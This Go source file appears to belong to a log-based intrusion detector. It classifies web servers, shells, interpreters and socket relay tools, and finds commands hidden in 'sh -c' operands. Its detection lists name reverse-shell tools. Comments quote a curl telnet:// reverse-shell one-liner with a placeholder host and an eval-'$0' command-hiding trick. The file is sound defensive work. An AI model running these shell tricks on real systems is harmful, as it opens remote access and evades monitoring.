package detect

import (
	"path"
	"slices"
	"strings"

	"github.com/auditchain/auditchain/parser"
)

// The classifiers below give the engine's state and the placement function
// one shared notion of "web server", "shell" and "web-service account". The
// headline rule spells the same lists out in YAML so that an analyst can read
// (and `rules test`) them; TestWebServerClassifierMatchesRule keeps the two
// in step.

// webServerNames are executables that are web servers or application servers
// by name alone (exact base names).
var webServerNames = map[string]bool{
	"nginx": true, "apache2": true, "httpd": true, "caddy": true, "lighttpd": true,
	"openresty": true, "uwsgi": true, "daphne": true, "php-cgi": true, "php-fcgi": true,
	"varnishd": true, "uvicorn": true, "waitress-serve": true, "starman": true,
	"hypercorn": true, "unicorn": true, "puma": true, "passenger": true,
	"tomcat": true, "jetty": true, "traefik": true, "h2o": true, "hiawatha": true,
	"cherokee": true, "mongrel2": true, "thin": true, "lsphp": true, "litespeed": true,
	// CGI hosts: the FastCGI wrapper nginx hands CGI scripts to
	"fcgiwrap": true,
}

// webServerPrefixes are base-name prefixes of versioned server binaries
// (php-fpm8.2, gunicorn3, httpd-prefork, apache2.4).
var webServerPrefixes = []string{"php-fpm", "php-cgi", "gunicorn", "httpd", "apache2", "lsphp", "nginx"}

// webCommPrefixes are process titles (comm) of servers whose binary is an
// interpreter; the headline rule lists them under ParentComm.
var webCommPrefixes = []string{"gunicorn", "uwsgi", "puma", "unicorn", "passenger", "uvicorn", "hypercorn", "daphne", "starman", "php-fpm", "rails", "waitress"}

// interpreterServers: an interpreter is a web server when its arguments name
// a server or framework entry point. Matched case-sensitively, as the
// arguments are written by the service's own unit file.
var interpreterServers = []struct {
	prefix string // base-name prefix of the interpreter
	args   []string
}{
	{"ruby", []string{"puma", "rails", "passenger", "unicorn", "thin", "rackup"}},
	{"python", []string{"hypercorn", "flask", "uvicorn", "django", "manage.py runserver", "app.py", "server.py", "wsgi.py", "gunicorn", "waitress", "tornado", "aiohttp"}},
	{"perl", []string{"plackup", "starman", "hypnotoad", "morbo", "mojolicious"}},
	{"node", []string{"server.js", "app.js", "index.js", "next start", "nuxt", "express", "nest start", "main.js", "pm2"}},
	{"nodejs", []string{"server.js", "app.js", "index.js", "express"}},
	{"java", []string{
		// Tomcat by its entry point, or — when the kernel's 128-byte
		// process title cuts the command line before it — by what
		// catalina.sh passes first: its logging config and manager
		// (org.apache.juli), catalina.base/home, a tomcat install path
		"org.apache.catalina.startup.Bootstrap", "org.apache.juli", "catalina.base", "catalina.home", "/tomcat",
		"jetty", "org.eclipse.jetty", "jboss-modules",
		"org.jboss", "wildfly", "weblogic.Server", "com.ibm.ws", "WebSphere", "websphere",
		"org.springframework.boot.loader", "jenkins.war", "jenkins", ".war", "glassfish", "payara",
		"resin", "undertow", "quarkus",
	}},
}

// IsWebServer reports whether p is a web or application server process:
// by its image (nginx, php-fpm8.2, httpd-prefork…), its process title, or
// an interpreter running a server entry point (python running gunicorn,
// java running Tomcat's Bootstrap). Timeline links chains with the same
// classifier so that the two steps agree on what a web server is.
func IsWebServer(p *parser.Process) bool { return isWebServer(p) }

// isWebServer reports whether p is a web or application server process.
func isWebServer(p *parser.Process) bool {
	if p == nil {
		return false
	}
	name, ok := imageName(p.Exe, p.Comm)
	if !ok {
		return false
	}
	if webServerByName(name, p.Exe, p.Comm) {
		// a check's fork that runs on is no check (forkedImage)
		return forkedImage(p) || !checksConfig(name, p.Args)
	}
	// only interpreters are judged by their arguments: join them (an
	// allocation) for those alone
	return isInterpreterServerName(name) && interpreterServes(name, commandOrTitle(p))
}

// commandOrTitle is p's command line, or for a process whose exec the
// logs never showed (a server started before them) its process title.
func commandOrTitle(p *parser.Process) string {
	if len(p.Args) == 0 && len(p.Title) > 0 {
		return strings.Join(p.Title, " ")
	}
	return p.CommandLine()
}

// webServerImage classifies an image by its path (or comm when the path is
// unknown) and command line.
func webServerImage(exe, comm, cmdline string) bool {
	name, ok := imageName(exe, comm)
	if !ok {
		return false
	}
	if webServerByName(name, exe, comm) {
		return !checksConfig(name, strings.Fields(cmdline))
	}
	return interpreterServes(name, cmdline)
}

// serverChecks are the options with which a server's binary checks its
// configuration, or prints what it would build, and exits: it binds no
// port and serves no request, so what it runs is the check of whoever
// started it (benign-shop-advent: the admin's sudo varnishd -C compiling
// a VCL through sh -c gcc). By base-name prefix; caddy's are subcommands.
var serverChecks = []struct {
	prefix     string
	flags      []string
	subcommand bool
}{
	{"nginx", []string{"-t", "-T"}, false},
	{"openresty", []string{"-t", "-T"}, false},
	{"apache2", []string{"-t", "-S", "-M"}, false},
	{"httpd", []string{"-t", "-S", "-M"}, false},
	{"varnishd", []string{"-C"}, false},
	{"php-fpm", []string{"-t", "-tt", "--test"}, false},
	{"lighttpd", []string{"-t", "-tt"}, false},
	{"caddy", []string{"validate", "adapt", "fmt", "version", "list-modules"}, true},
}

// checksConfig reports whether args (argv, the program first) start the
// server named name in its check mode.
func checksConfig(name string, args []string) bool {
	if len(args) < 2 {
		return false
	}
	for _, c := range serverChecks {
		if !strings.HasPrefix(name, c.prefix) {
			continue
		}
		if c.subcommand {
			return slices.Contains(c.flags, args[1])
		}
		for _, a := range args[1:] {
			if slices.Contains(c.flags, a) {
				return true
			}
		}
		return false
	}
	return false
}

// forkedImage reports whether p runs an image it was forked with, not one
// it exec'd: a check's fork that outlived it (a module's constructor
// forking in the background while php-fpm -t loaded it, shop-avatar) runs
// on its own, and is no check, whatever argv it inherited.
func forkedImage(p *parser.Process) bool {
	n := len(p.Execs)
	return n > 0 && p.Execs[n-1].Inherited
}

// CheckFork reports whether p is the background fork of a server binary
// run in its check mode (php-fpm -t, nginx -t) that outlived the check: a
// check parses the configuration, loads what it names and exits, so what
// its fork does on its own is code the configuration loaded.
func CheckFork(p *parser.Process) bool {
	if p == nil || p.Parent == nil || !forkedImage(p) {
		return false
	}
	q := p.Parent
	name, ok := imageName(q.Exe, q.Comm)
	return ok && webServerByName(name, q.Exe, q.Comm) && !forkedImage(q) && checksConfig(name, q.Args)
}

// imageName is the base name of exe, or comm when exe is unknown; ok is
// false when there is no name to classify.
func imageName(exe, comm string) (string, bool) {
	name := path.Base(exe)
	if exe == "" {
		name = comm
	}
	return name, name != "" && name != "." && name != "/"
}

// webServerByName reports whether an image is a server by its name or,
// for an interpreter that renamed itself, its process title.
func webServerByName(name, exe, comm string) bool {
	if webServerNames[name] || strings.HasSuffix(name, ".cgi") || strings.HasSuffix(name, ".fcgi") {
		return true
	}
	for _, p := range webServerPrefixes {
		if strings.HasPrefix(name, p) {
			return true
		}
	}
	if exe != "" && comm != "" && comm != name {
		// Servers written in an interpreter name their workers
		// (setproctitle): comm "gunicorn: worke" under python3.11, whose
		// exec predates the log so its arguments are unknown.
		for _, p := range webCommPrefixes {
			if strings.HasPrefix(comm, p) {
				return true
			}
		}
	}
	return false
}

// isInterpreterServerName reports whether interpreterServes can say yes
// for an image name, whatever its command line.
func isInterpreterServerName(name string) bool {
	for _, is := range interpreterServers {
		if strings.HasPrefix(name, is.prefix) {
			return true
		}
	}
	return false
}

// interpreterServes reports whether an interpreter's command line names a
// server or framework entry point.
func interpreterServes(name, cmdline string) bool {
	for _, is := range interpreterServers {
		if !strings.HasPrefix(name, is.prefix) {
			continue
		}
		for _, a := range is.args {
			if strings.Contains(cmdline, a) {
				return true
			}
		}
	}
	return false
}

// shellNames are the shells whose "-c" runs a command string.
var shellNames = map[string]bool{
	"bash": true, "dash": true, "sh": true, "tcsh": true, "csh": true, "zsh": true,
	"ksh": true, "fish": true, "mksh": true, "busybox": true, "ash": true, "rbash": true,
}

// isShell reports whether the image is a shell.
func isShell(exe string) bool { return shellNames[path.Base(exe)] }

// interpreterPrefixes are script interpreters that can hold a reverse shell.
var interpreterPrefixes = []string{"python", "perl", "ruby", "php", "node", "nodejs", "lua", "java", "tclsh", "expect", "awk", "gawk"}

// isInterpreter reports whether exe is a language runtime (not a shell or
// a relay tool): it may be a reverse shell, or an application server.
func isInterpreter(exe string) bool {
	name := path.Base(exe)
	if shellNames[name] || channelTools[name] {
		return false
	}
	for _, p := range interpreterPrefixes {
		if strings.HasPrefix(name, p) {
			return true
		}
	}
	return false
}

// channelTools are programs that exist to relay a socket to a shell.
var channelTools = map[string]bool{
	"nc": true, "ncat": true, "netcat": true, "nc.traditional": true, "nc.openbsd": true,
	"socat": true, "telnet": true, "openssl": true, "cryptcat": true, "pwncat": true,
}

// isChannelImage reports whether a process with this image holding a socket
// is a remote shell rather than a client program (curl, ssh, a database
// driver): shells, interpreters and socket relays.
func isChannelImage(exe string) bool {
	name := path.Base(exe)
	if shellNames[name] || channelTools[name] {
		return true
	}
	for _, p := range interpreterPrefixes {
		if strings.HasPrefix(name, p) {
			return true
		}
	}
	return false
}

// isChannelProcess is isChannelImage of a process, with curl given a
// telnet:// URL: curl's telnet protocol is a bare TCP session, stdin to
// the socket and the socket to stdout (-T . keeps stdin flowing), the
// part nc plays in a relay (shop-engrave: curl -sN -T . telnet://host:port
// < fifo | /bin/sh > fifo). curl fetching a URL stays a client.
func isChannelProcess(p *parser.Process) bool {
	if p == nil {
		return false
	}
	return isChannelImage(p.Exe) || rawSessionClient(p.Exe, p.Args)
}

// rawSessionClient reports whether a command line is curl holding a bare
// TCP session (a telnet:// URL).
func rawSessionClient(exe string, args []string) bool {
	if path.Base(exe) != "curl" {
		return false
	}
	for _, a := range args[min(1, len(args)):] {
		if len(a) > 9 && strings.EqualFold(a[:9], "telnet://") {
			return true
		}
	}
	return false
}

// webAccounts are the service accounts web servers run as on common
// distributions; uid 33 (Debian www-data) and 48 (RHEL apache) are checked
// by number too because logs without names only carry the uid.
var webAccounts = map[string]bool{
	"www-data": true, "apache": true, "httpd": true, "nginx": true, "lighttpd": true,
	"www": true, "wwwrun": true, "http": true, "nobody-www": true,
}

// isWebAccount reports whether a process runs as a web-service account.
func isWebAccount(user string, uid parser.ID) bool {
	if webAccounts[user] || strings.HasPrefix(user, "tomcat") {
		return true
	}
	return uid.Set && (uid.N == 33 || uid.N == 48)
}

// schedulerNames are the parents of scheduled jobs: a reverse shell they
// start is a beacon of an installed persistence, not a fresh spawn.
var schedulerNames = map[string]bool{"cron": true, "crond": true, "atd": true, "anacron": true, "fcron": true}

// shellCommand returns the command string of "sh -c CMD" (also -lc, -cl,
// -ec, "busybox sh -c"), and false when argv is not a shell running one.
func shellCommand(exe string, args []string) (string, bool) {
	s, _, ok := shellCommandAt(exe, args)
	return s, ok
}

// positionalCode returns the operands a shell's -c script runs as code —
// eval "$0", a bare "$1" or "$@" as a command — at most four; nil when it
// runs none. `sh -c 'eval "$0"' CMD` hides the command in an operand,
// where the -c string shows only the wrapper (ledger-receipt: the planted
// settings' `case "$0" in Invoice*) ...;; *) eval "$0";; esac`, the title
// as $0 and the app's temp file as $1, which is data).
func positionalCode(exe string, args []string) []string {
	s, i, ok := shellCommandAt(exe, args)
	if !ok {
		return nil
	}
	return codeOperands(s, args[i+1:])
}

// codeOperands is positionalCode on a script already found: s is the -c
// string and rest the argv after -c (the script, then $0, $1, …).
func codeOperands(s string, rest []string) []string {
	if len(rest) < 2 || !strings.Contains(s, "$") {
		return nil
	}
	ops := rest[1:] // $0, $1, …
	var out []string
	add := func(k int) {
		if k < len(ops) && len(ops[k]) >= 2 && len(out) < 4 && !slices.Contains(out, ops[k]) {
			out = append(out, ops[k])
		}
	}
	for at := 0; at < len(s); at++ {
		if s[at] != '$' {
			continue
		}
		n, end := positionalAt(s, at)
		if n == "" || !codeBefore(s[:at]) || !codeAfter(s[end:]) {
			continue
		}
		if n == "@" || n == "*" {
			for k := 1; k < len(ops); k++ { // "$@" is $1 …
				add(k)
			}
			continue
		}
		add(int(n[0] - '0'))
	}
	return out
}

// positionalAt reads $N, ${N}, $@ or $* at s[at] (N one digit), returning
// its name and where it ends, or "".
func positionalAt(s string, at int) (string, int) {
	j := at + 1
	brace := j < len(s) && s[j] == '{'
	if brace {
		j++
	}
	if j >= len(s) || !(s[j] >= '0' && s[j] <= '9' || s[j] == '@' || s[j] == '*') {
		return "", 0
	}
	n := s[j : j+1]
	j++
	if brace {
		if j >= len(s) || s[j] != '}' {
			return "", 0
		}
		j++
	}
	return n, j
}

// codeBefore: what precedes a parameter puts it where a command goes: the
// start, a separator, or eval/exec/then/else/do (an opening quote aside).
func codeBefore(s string) bool {
	s = strings.TrimRight(strings.TrimSuffix(strings.TrimRight(s, " \t"), `"`), " \t")
	if s == "" {
		return true
	}
	switch s[len(s)-1] {
	case ';', '&', '|', '(', '{', ')', '\n':
		return true
	}
	for _, w := range []string{"eval", "exec", "then", "else", "do"} {
		if strings.HasSuffix(s, w) && (len(s) == len(w) || strings.ContainsRune(" \t;&|(", rune(s[len(s)-len(w)-1]))) {
			return true
		}
	}
	return false
}

// codeAfter: what follows ends the command (a closing quote aside).
func codeAfter(s string) bool {
	s = strings.TrimLeft(strings.TrimPrefix(s, `"`), " \t")
	return s == "" || strings.ContainsRune(";&|)}\n", rune(s[0])) || strings.HasPrefix(s, "2>") || strings.HasPrefix(s, ">")
}

// shellCommandAt is shellCommand with the index of the -c option in args.
func shellCommandAt(exe string, args []string) (string, int, bool) {
	if !isShell(exe) || len(args) < 2 {
		return "", 0, false
	}
	i := 1
	if path.Base(exe) == "busybox" && len(args) > 2 && shellNames[path.Base(args[1])] {
		i = 2
	}
	for ; i < len(args); i++ {
		a := args[i]
		if len(a) < 2 || a[0] != '-' || a[1] == '-' {
			return "", 0, false
		}
		if strings.IndexByte(a, 'c') > 0 {
			if i+1 < len(args) {
				return args[i+1], i, true
			}
			return "", 0, false
		}
	}
	return "", 0, false
}
